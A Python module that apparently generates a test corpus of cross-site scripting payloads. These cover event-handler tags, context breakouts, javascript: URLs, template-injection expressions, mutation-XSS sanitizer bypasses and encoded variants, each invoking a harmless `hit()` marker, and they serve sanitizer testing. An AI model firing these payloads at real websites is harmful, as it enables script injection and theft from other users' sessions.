"""Words that would run a program where a page took them for more than words.

They are put together from families: what runs, how it is written, and what it breaks out of. Each
calls `hit()`.
"""

from collections.abc import Iterator
from html import escape
from itertools import chain, product
from urllib.parse import quote

RUN = "hit()"
#: An element, and an event of its own that needs nobody.
ALONE = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("iframe", "onload"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("body", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("marquee", "onstart"),
    ("p style=animation:a", "onanimationstart"),
    ("a href=# autofocus tabindex=1", "onfocusin"),
    ("button popovertarget=x", "onclick"),
    ("div contenteditable", "onpointerover"),
)
QUOTES = ("", '"', "'")
SPACES = (" ", "/", "\n", "\t", "\f")
#: What may stand before: the end of whatever a template put the words into.
ENDS = ("", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "`;//")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "vbscript:")
TEMPLATES = (
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "#{hit()}",
    "<%= hit() %>",
    "{% hit() %}",
    "[[hit()]]",
    "{{{hit()}}}",
    "@(hit())",
)
SCRIPTS = (
    "<script>hit()</script>",
    "<ScRiPt>hit()</sCrIpT>",
    "<script\n>hit()</script\n>",
    "<script/x>hit()</script>",
    "<svg><script>hit()</script></svg>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script>/*\u2028*/hit()</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img src=x onerror=hit()>">',
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set onbegin=hit() attributename=x>",
    "<template><img src=x onerror=hit()></template>",
    '<iframe srcdoc="&lt;img src=x onerror=parent.hit()&gt;">',
    "<meta http-equiv=refresh content=0;javascript:hit()>",
    "<base href=javascript:hit()//>",
    '";hit();//',
    "';hit();//",
    "</script><script>hit()//",
    "\\';hit();//",
)


def _handlers() -> Iterator[str]:
    for (element, event), quoted, space in product(ALONE, QUOTES, SPACES):
        written = element.replace(" ", space)
        yield f"<{written}{space}{event}={quoted}{RUN}{quoted}>"


def _breakouts() -> Iterator[str]:
    for end, (element, event) in product(ENDS[1:], ALONE[:14]):
        yield f"{end}<{element} {event}={RUN}>"
    for end, script in product(ENDS[1:], SCRIPTS[:3]):
        yield end + script


def _addresses() -> Iterator[str]:
    for scheme in SCHEMES:
        yield f"{scheme}{RUN}"
        yield f"{scheme}//example.com/%0a{RUN}"
        yield f'<a href="{scheme}{RUN}">look</a>'
        yield f"[look]({scheme}{RUN})"
        yield f"![look]({scheme}{RUN})"
    yield f"data:text/html,<script>{RUN}</script>"
    yield f'https://example.com/"onmouseover="{RUN}'


def _attributes() -> Iterator[str]:
    for quoted, (_, event) in product(('"', "'", "`"), ALONE):
        yield f"{quoted} {event}={quoted}{RUN}{quoted} autofocus tabindex=1 x={quoted}"


def _encoded() -> Iterator[str]:
    for words in (SCRIPTS[0], "<img src=x onerror=hit()>", "<svg onload=hit()>"):
        yield escape(words)
        yield escape(escape(words))
        yield quote(words)
        yield words.replace("<", "\\u003c").replace(">", "\\u003e")
        yield words.replace("<", "\\x3c").replace(">", "\\x3e")
        yield words.replace("<", "＜").replace(">", "＞")
        yield words.replace("<", "+ADw-").replace(">", "+AD4-")
        yield "".join(f"&#{ord(letter)};" for letter in words)
        yield words.replace("<", "\u202e<")
        yield words[::-1]


#: All of them, none twice.
#: All of them, none twice.
WORDS = tuple(
    dict.fromkeys(
        chain(
            _handlers(), _breakouts(), _addresses(), _attributes(), _encoded(), SCRIPTS, TEMPLATES
        )
    )
)


def batches(most: int) -> list[str]:
    """The words with a space between, in texts of at most this length; longer words are left."""
    found, text = [], ""
    for words in WORDS:
        if len(words) > most:
            continue
        if text and len(text) + 1 + len(words) > most:
            found.append(text)
            text = ""
        text = f"{text} {words}" if text else words
    return [*found, text]
